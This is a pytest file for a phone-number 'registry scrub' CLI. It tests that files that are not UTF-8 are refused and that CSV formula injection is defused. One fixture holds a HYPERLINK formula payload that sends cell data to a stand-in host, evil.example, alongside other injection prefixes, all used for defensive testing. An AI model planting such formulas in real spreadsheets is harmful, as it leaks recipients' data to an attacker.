"""``registry scrub`` on hostile files: not UTF-8 is a clear usage error; formulas are defused."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from tests.cli.test_scrub import noon  # noqa: F401  (scrubs inside the calling hours)
from tests.factories import World

Cli = Callable[..., Result]


@pytest.mark.parametrize(
    "content",
    [
        "13100000051,李\n".encode("gb18030"),  # a spreadsheet's "CSV" in the local code page
        b"\xff\xfe1\x003\x001\x00",  # UTF-16
        b"13100000051\n\x80\x81\x82\n",
    ],
)
def test_a_file_that_is_not_utf8_is_refused_with_exit_2(
    cli: Cli, tmp_path: Path, world: World, content: bytes
) -> None:
    source = tmp_path / "numbers.csv"
    source.write_bytes(content)
    result = cli("scrub", str(source), "--sender", "acme-cards", "--channel", "sms")
    assert result.exit_code == 2, result.output
    assert "is not UTF-8 text" in result.output
    assert "save it as CSV UTF-8" in result.output
    assert "Traceback" not in result.output
    assert not isinstance(result.exception, UnicodeDecodeError)


@pytest.mark.usefixtures("noon")
def test_echoed_input_cannot_run_as_a_formula(cli: Cli, tmp_path: Path, world: World) -> None:
    source = tmp_path / "numbers.csv"
    source.write_text(
        "phone\n"
        '"=HYPERLINK(""http://evil.example/?""&A1,""13100000051"")"\n'
        "+8613100000051\n"
        "-13100000051\n"
        "@SUM(1+1)\n"
        "\t13100000051\n"
        "13100000052\n",
        encoding="utf-8",
    )
    out = tmp_path / "out.csv"
    result = cli("scrub", str(source), "--sender", "acme-cards", "--channel", "sms", "-o", str(out))
    assert result.exit_code == 0, result.output
    got = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    inputs = [r[0] for r in got[1:]]
    assert inputs[0].startswith("'=HYPERLINK")
    assert inputs[1:] == ["'+8613100000051", "'-13100000051", "'@SUM(1+1)", "'\t13100000051", "13100000052"]  # fmt: skip
    # The registry's own E.164 numbers are written as they are: they cannot run.
    phones = {r[1] for r in got[1:] if r[1]}
    assert phones == {"+8613100000051", "+8613100000052"}
